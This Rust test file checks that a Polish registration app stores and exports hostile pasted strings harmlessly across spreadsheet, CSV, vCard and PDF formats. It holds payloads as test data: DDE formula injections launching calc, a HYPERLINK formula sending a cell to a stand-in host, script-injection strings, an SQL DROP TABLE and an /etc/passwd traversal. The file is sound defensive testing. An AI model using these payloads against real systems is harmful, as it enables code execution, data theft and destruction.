//! Strings that break programs, and formulas that strangers smuggle in, through the window: pasted as a
//! table, into the form, into a cell; and out again in every format, the same and harmless.

use std::{collections::BTreeMap, fs, path::Path, process::Command};

use calamine::{Data, Ods, Reader, Xlsx};
use obrady_tests::{App, run, test_data};
use serde_json::{Value, json};

use crate::office::{Office, seek};

/// What would run in a spreadsheet or a page, break a table apart, or be taken for something else.
const STRINGS: [&str; 20] = [
    "=cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+1-1+cmd|' /C notepad'!A1",
    "-2+3+cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://zle.test?x=\"&A1;\"kliknij\")",
    "\"><img src=x onerror=\"globalThis.hacked=true\">",
    "<script>globalThis.hacked=true</script>",
    "javascript:globalThis.hacked=true",
    "'; DROP TABLE registrations; --",
    "{{ $count }} ${hacked} %s %d \\u0041",
    "a;b,c|d\"e'f\\g",
    "undefined",
    "00123",
    "1E5",
    "3.14.15",
    "Ω≈ç√∫˜µ≤≥÷",
    "田中さんにあげて下さい",
    "👩‍👩‍👧‍👦 i 🏳️‍🌈",
    "Łódź, „żółć”, ﷽",
    "../../../../etc/passwd%00",
];

/// Who has them: the name says which.
fn family(at: usize) -> String {
    let letter = |at: usize| char::from(b'a' + u8::try_from(at % 20).expect("below 20"));
    format!("Próba{}{}", letter(at / 20), letter(at))
}

#[test]
fn what_breaks_programs_comes_in_and_goes_out_as_it_is() {
    run(async {
        let office = Office::new("Imię;Nazwisko;Instytucja\r\nOla;Zwykła;Gmina Bór\r\n");
        let app = office.window().await;
        app.get("[data-testid=registrations] [data-cell='0-0'] strong").await;
        let mut strings: Vec<String> = STRINGS.map(str::to_owned).into();
        strings.extend(further());

        // As cells of a spreadsheet.
        let mut cells = "Imię\tNazwisko\tStanowisko\tInstytucja\tUwagi\tDieta\n".to_owned();
        for (at, text) in strings.iter().enumerate() {
            let cell = format!("\"{}\"", text.replace('"', "\"\""));
            let cells_of = [&cell; 4].map(String::as_str).join("\t");
            cells += &format!("Jan\t{}\t{cells_of}\n", family(at));
        }
        let script = format!(
            "const data = new DataTransfer(); data.setData('text/plain', {});
             document.body.dispatchEvent(new ClipboardEvent('paste', {{ clipboardData: data, bubbles: true, cancelable: true }}));",
            json!(cells)
        );
        app.js(&script).await;
        app.get("[data-testid=registrations-read-as]").await;
        app.click("[data-testid=registrations-table-next]").await;
        // Numbers where words belong wait, unless somebody wants them so.
        app.click("[data-testid=registrations-faulty]").await;
        app.shot("naughty-wizard").await;
        app.click("[data-testid=registrations-table-next]").await;
        app.click("[data-testid=registrations-table-take]").await;
        app.until("[data-testid=toasts]", &format!("Dodano: {}", strings.len())).await;

        // Into the form, and over it again into a cell.
        app.keys("Ctrl+n").await;
        for (field, text) in [
            ("given", "Jan"),
            ("family", "Formularz"),
            ("office", STRINGS[0]),
            ("organisation", STRINGS[5]),
            ("quick-diet", STRINGS[1]),
            ("note", STRINGS[6]),
        ] {
            app.click(&format!("[data-testid=registration-{field}]")).await;
            paste(&app, text).await;
        }
        app.keys("Ctrl+Enter").await;
        app.until_gone("[data-testid=registration-form]").await;
        let one = office.of("Formularz");
        assert_eq!(
            ["office", "organisation", "diet", "note"].map(|what| one[what].as_str()),
            [0, 5, 1, 6].map(|at| Some(STRINGS[at])),
            "as they were pasted"
        );
        seek(&app, "Formularz").await;
        app.keys("ArrowRight").await;
        app.keys("ArrowRight").await;
        app.keys("F2").await;
        app.get("input[data-testid=registrations-edit]").await;
        app.keys("Ctrl+a").await;
        paste(&app, STRINGS[4]).await;
        app.keys("Enter").await;
        app.until("[data-cell='0-2']", STRINGS[4]).await;
        assert_eq!(office.of("Formularz")["office"], STRINGS[4]);
        app.fill("[data-testid=registrations-search]", "").await;

        // Nothing was lost on the way in but what docs/formats.md names.
        let all = office.told(&["list", "registrations"]);
        assert_eq!(all.len(), strings.len() + 2);
        for (at, text) in strings.iter().enumerate() {
            let one = all.iter().find(|one| one["family"] == family(at)).expect("registered");
            for what in ["note", "diet"] {
                assert_eq!(plain(one[what].as_str().unwrap_or_default()), plain(text), "{what}");
            }
        }

        out(&app, &office, &all).await;
        assert_eq!(app.js("return globalThis.hacked ?? null").await, json!(null), "nothing ran");
        app.quit().await;
    });
}

/// A few of the strings that others collected, where they are here: those that show something.
fn further() -> Vec<String> {
    let Some(list) = test_data("unicode/blns/blns.json") else { return Vec::new() };
    let list = fs::read_to_string(list).expect("a text");
    let list: Vec<String> = serde_json::from_str(&list).expect("a list of strings");
    // `NULL` and `None` say in a table that there is nothing, and are read so.
    let shows = |text: &String| {
        plain(text).chars().count() > 3 && !["null", "none"].contains(&&*text.to_lowercase())
    };
    list.into_iter().filter(shows).step_by(23).collect()
}

/// One input of the whole text, as from the clipboard.
async fn paste(app: &App, text: &str) {
    app.js(&format!("document.execCommand('insertText', false, {})", json!(text))).await;
}

/// A text without what docs/formats.md says may change: white space and what shows nothing.
fn plain(text: &str) -> String {
    let shows = |letter: &char| {
        !letter.is_whitespace()
            && !letter.is_control()
            && !matches!(letter,
                '\u{ad}' | '\u{feff}' | '\u{fffe}' | '\u{ffff}' | '\u{180e}' | '\u{61c}'
                | '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{206f}'
                | '\u{fff9}'..='\u{fffb}' | '\u{300}'..='\u{36f}' | '\u{e0000}'..='\u{e007f}')
    };
    text.chars().filter(shows).collect()
}

/// Every format, written by the window and read by others.
async fn out(app: &App, office: &Office, all: &[Value]) {
    for ending in ["xlsx", "ods", "csv", "vcf", "txt", "pdf"] {
        let path = office.home.path().join(format!("lista.{ending}"));
        app.click("[data-testid=registrations-export]").await;
        app.until("[data-testid=list-preview]", "Formularz").await;
        let format = match ending {
            "vcf" => "cards",
            "txt" => "addresses",
            other => other,
        };
        if ending == "txt" {
            // Nobody here has an address: there is nothing to save.
            app.choose("list-format", format).await;
            app.until("[data-testid=list-preview]", "0 osób ma adres").await;
            app.keys("Escape").await;
            app.until_gone("[data-testid=list-dialog]").await;
            continue;
        }
        app.choose("list-format", format).await;
        if ending == "pdf" {
            // Few columns: no name is parted at the end of a line.
            let venue = "[...document.querySelectorAll('[data-testid=list-layout] option')]
                .find((one) => one.text.startsWith('Lista dla obiektu')).value";
            let venue = app.js(&format!("return {venue}")).await;
            app.choose("list-layout", venue.as_str().expect("an id")).await;
            app.until("[data-testid=list-columns]", "Dieta").await;
        }
        office.home.pick(&path);
        app.click("[data-testid=list-save]").await;
        app.until_gone("[data-testid=list-dialog]").await;
        app.until("[data-testid=toasts]", &format!("lista.{ending}")).await;
        match ending {
            "xlsx" => {
                let mut book: Xlsx<_> = calamine::open_workbook(&path).expect("a workbook");
                let formulas =
                    book.worksheet_formula("Lista").map(|range| range.used_cells().count());
                assert_eq!(formulas.unwrap_or(0), 0, "no cell computes");
                let (_, range) = book.worksheets().swap_remove(0);
                same(ending, range.rows().map(texts), all);
            }
            "ods" => {
                let mut book: Ods<_> = calamine::open_workbook(&path).expect("a workbook");
                let (name, range) = book.worksheets().swap_remove(0);
                let formulas = book.worksheet_formula(&name).map(|range| {
                    range.used_cells().filter(|(_, _, text)| !text.is_empty()).count()
                });
                assert_eq!(formulas.unwrap_or(0), 0, "no cell computes");
                same(ending, range.rows().map(texts), all);
            }
            "csv" => {
                let rows = delimited(&fs::read_to_string(&path).expect("UTF-8"));
                for cell in rows.iter().flatten() {
                    assert!(!cell.starts_with(['=', '+', '-', '@', '\t']), "{cell:?} would run");
                }
                let guarded = |text: &&str| text.starts_with(['=', '+', '-', '@']);
                let bare = |cell: &String| {
                    cell.strip_prefix('\'').filter(guarded).unwrap_or(cell).to_owned()
                };
                same(ending, rows.iter().map(|row| row.iter().map(bare).collect()), all);
            }
            "vcf" => cards(&fs::read_to_string(&path).expect("UTF-8"), all),
            _ => pages(&path, all),
        }
    }
}

fn texts(row: &[Data]) -> Vec<String> {
    row.iter().map(ToString::to_string).collect()
}

/// A list with a heading has these texts of everybody.
fn same(format: &str, mut rows: impl Iterator<Item = Vec<String>>, all: &[Value]) {
    let heading = rows.next().expect("a heading");
    let column = |name: &str| {
        let at = heading.iter().position(|one| one.trim_start_matches('\u{feff}') == name);
        at.unwrap_or_else(|| panic!("{format}: {name} among {heading:?}"))
    };
    let columns = [
        ("Stanowisko", "office"),
        ("Instytucja", "organisation"),
        ("Dieta", "diet"),
        ("Uwagi", "note"),
    ]
    .map(|(name, what)| (column(name), what));
    let by_family: BTreeMap<String, Vec<String>> =
        rows.map(|row| (row[column("Nazwisko")].clone(), row)).collect();
    assert_eq!(by_family.len(), all.len(), "{format}: everybody");
    for one in all {
        let row = &by_family[one["family"].as_str().expect("a name")];
        for (at, what) in columns {
            let want = one[what].as_str().unwrap_or_default();
            assert_eq!(plain(&row[at]), plain(want), "{format}: {what} of {}", one["family"]);
        }
    }
}

/// A table with semicolons (RFC 4180).
fn delimited(text: &str) -> Vec<Vec<String>> {
    let (mut rows, mut cell, mut quoted) = (vec![vec![]], String::new(), false);
    let mut letters = text.trim_start_matches('\u{feff}').chars().peekable();
    while let Some(letter) = letters.next() {
        match letter {
            '"' if quoted && letters.peek() == Some(&'"') => cell.extend(letters.next()),
            '"' => quoted = !quoted,
            ';' | '\n' if !quoted => {
                let row: &mut Vec<String> = rows.last_mut().expect("one at least");
                row.push(std::mem::take(&mut cell));
                if letter == '\n' {
                    rows.push(vec![]);
                }
            }
            '\r' if !quoted => {}
            _ => cell.push(letter),
        }
    }
    rows.retain(|row| !row.is_empty());
    rows
}

/// Cards hold office, organisation and note of everybody, with what would end a value escaped (RFC 6350).
fn cards(text: &str, all: &[Value]) {
    let text = text.replace("\r\n ", "").replace("\r\n\t", "");
    assert_eq!(text.matches("BEGIN:VCARD\r\n").count(), all.len(), "a card for each");
    let bare = plain(&text.replace("\\n", "").replace('\\', ""));
    for one in all {
        for what in ["office", "organisation", "note"] {
            let want = one[what].as_str().unwrap_or_default().replace("\\n", "").replace('\\', "");
            assert!(bare.contains(&plain(&want)), "{what} of {}: {want}", one["family"]);
        }
    }
}

/// What our faces have letters for can be read out of the pages, where there is a program that reads them.
fn pages(path: &Path, all: &[Value]) {
    let Ok(text) = Command::new("pdftotext").arg("-raw").arg(path).arg("-").output() else {
        return;
    };
    let text = plain(&String::from_utf8_lossy(&text.stdout));
    for one in all {
        assert!(text.contains(one["family"].as_str().expect("a name")), "{}", one["family"]);
    }
    let bytes = fs::read(path).expect("pages");
    let has = |needle: &[u8]| bytes.windows(needle.len()).any(|part| part == needle);
    assert!(!has(b"/JavaScript") && !has(b"/Launch") && !has(b"/OpenAction"), "nothing runs in it");
}
